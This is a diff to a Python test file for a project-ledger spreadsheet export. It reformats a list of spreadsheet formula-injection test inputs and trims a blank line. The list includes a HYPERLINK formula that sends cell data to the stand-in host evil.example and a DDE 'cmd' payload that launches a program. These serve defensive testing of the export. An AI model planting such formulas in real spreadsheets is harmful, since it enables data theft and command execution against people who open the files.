@@ -11,7 +11,13 @@ from audit_helpers import AREA, XIAOGAN, actor
 from projlife.app.application import Projlife
 from projlife.reports.ledger_export import export_ledger_xlsx
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&H3,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&H3,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+]
 
 
 def _projects(app: Projlife) -> None:
@@ -54,4 +60,3 @@ def test_an_illegal_character_spoils_only_its_cell(app: Projlife, tmp_path: Path
     assert export_ledger_xlsx(bad, path, city=app.city("xiaogan"), as_of=None) == len(rows)
     values = {c.value for row in load_workbook(path)["台账"].iter_rows(min_row=3) for c in row}
     assert "坏\ufffd名" in values
-
